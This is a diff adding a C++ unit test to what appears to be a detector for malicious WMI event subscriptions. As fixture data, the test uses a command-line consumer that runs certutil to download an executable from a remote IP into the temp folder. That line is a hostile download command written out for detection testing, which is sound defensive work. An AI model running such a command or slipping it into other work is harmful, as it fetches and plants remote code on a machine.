@@ -89,6 +89,30 @@ TEST_CASE("hosts add their own rules; duplicates and empty rules are refused") {
     CHECK_FALSE(severity_from_string("severe"));
 }
 
+TEST_CASE("facts say which indicator kinds the payload shows, also when built by hand") {
+    mock_collector source;
+    source.filter("F", quiet_query)
+        .command_line_consumer("C", "cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe")
+        .bind("F", "C");
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    const subscription_graph graph(*snap);
+    const auto results = assess(graph, rule_catalog::builtin());
+    REQUIRE(results.size() == 1);
+    const subscription_facts& assessed = results[0].facts;
+    REQUIRE(assessed.payload);
+    REQUIRE_FALSE(assessed.payload->indicators.empty());
+    const indicator_kind shown = assessed.payload->indicators.front().kind;
+    CHECK(assessed.has_indicator(shown));
+
+    subscription_facts by_hand;  // as a rule author's unit test might build it
+    by_hand.payload = assessed.payload;
+    CHECK(by_hand.has_indicator(shown));
+    for (const indicator& i : assessed.payload->indicators) CHECK(by_hand.has_indicator(i.kind) == assessed.has_indicator(i.kind));
+    by_hand.payload.reset();
+    CHECK_FALSE(by_hand.has_indicator(shown));
+}
+
 TEST_CASE("trigger rules") {
     CHECK(has(rules_for(boot_query, "C:\\Windows\\System32\\notepad.exe"), "WMISUB-TRG-001"));
     CHECK_FALSE(has(rules_for(quiet_query, "C:\\Windows\\System32\\notepad.exe"), "WMISUB-TRG-001"));
